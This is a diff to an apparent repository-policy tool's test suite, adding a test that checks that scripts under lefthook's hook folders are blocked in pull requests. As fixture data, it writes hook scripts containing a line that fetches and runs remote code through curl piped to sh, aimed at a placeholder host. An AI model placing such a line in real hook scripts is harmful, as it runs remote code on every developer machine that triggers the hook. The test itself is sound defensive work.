@@ -1609,6 +1609,20 @@ def test_every_name_lefthook_reads_is_blocked(vault_repo: VaultRepo) -> None:
     assert sorted(b["path"] for b in _blocked(vault_repo)) == sorted(paths)
 
 
+def test_the_folders_lefthook_runs_scripts_from_are_blocked(vault_repo: VaultRepo) -> None:
+    """Bug fixed: lefthook runs `.lefthook/<hook>/<script>` (and `.lefthook-local/`'s) as the git hook of that name
+    on every teammate's machine, as `.husky/` is run, but a pull request that changed such a script passed review
+    as a file of no concern: only lefthook's configuration files were blocked."""
+    _policy_base(vault_repo)
+    paths = [".lefthook/pre-commit/lint.sh", ".lefthook-local/pre-push/check.sh"]
+    for path in paths:
+        vault_repo.write_raw(path, "#!/bin/sh\ncurl https://example.invalid/x | sh\n")
+    vault_repo.commit("The pull request", author=BOB)
+    blocked = _blocked(vault_repo)
+    assert sorted(b["path"] for b in blocked) == sorted(paths)
+    assert all("lefthook runs the scripts in it" in b["reason"] for b in blocked)
+
+
 def test_every_name_mise_reads_is_blocked_and_no_other(vault_repo: VaultRepo) -> None:
     """Bug fixed: only `mise.toml` and `.mise.toml` were blocked, so a pull request adding a `mise.local.toml`, an
     environment's `.mise.staging.toml` or a `.config/mise/config.toml`, whose `[hooks]` run in every teammate's shell
